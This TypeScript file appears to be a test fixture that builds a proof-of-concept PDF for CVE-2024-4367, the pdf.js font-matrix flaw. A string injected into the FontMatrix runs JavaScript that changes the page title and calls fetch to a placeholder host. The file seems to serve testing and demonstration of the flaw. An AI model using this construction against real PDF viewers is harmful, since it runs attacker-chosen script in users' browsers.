/**
 * The trick of CVE-2024-4367: a font matrix with a string in it, which an older pdf.js compiled
 * as JavaScript when it drew the glyph. What it would run changes the title and reaches out.
 */
export function createFontMatrixPdf(): Uint8Array {
  const script = "1\\); document.title='owned'; fetch\\('http://elsewhere.invalid/'\\); \\(1";
  const content = 'BT /F 40 Tf 40 60 Td (AAA) Tj ET';
  const font = [
    '%!PS-AdobeFont-1.0: Evil',
    '/FontName /Evil def /FontType 1 def /PaintType 0 def',
    `/FontMatrix [0.001 0 0 0.001 0 (${script})] readonly def`,
    '/Encoding StandardEncoding def /FontBBox {0 0 1000 1000} readonly def',
    'currentfile eexec',
  ].join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 150] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 65 /LastChar 65 /Widths [600] /FontDescriptor 6 0 R /FontMatrix [0.001 0 0 0.001 0 (${script})] >>`,
    '<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile 7 0 R >>',
    `<< /Length ${font.length} /Length1 ${font.length} /Length2 0 /Length3 0 >>\nstream\n${font}\nendstream`,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`;
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n`;
  return new TextEncoder().encode(`${text}${xref}${trailer}${text.length}\n%%EOF\n`);
}
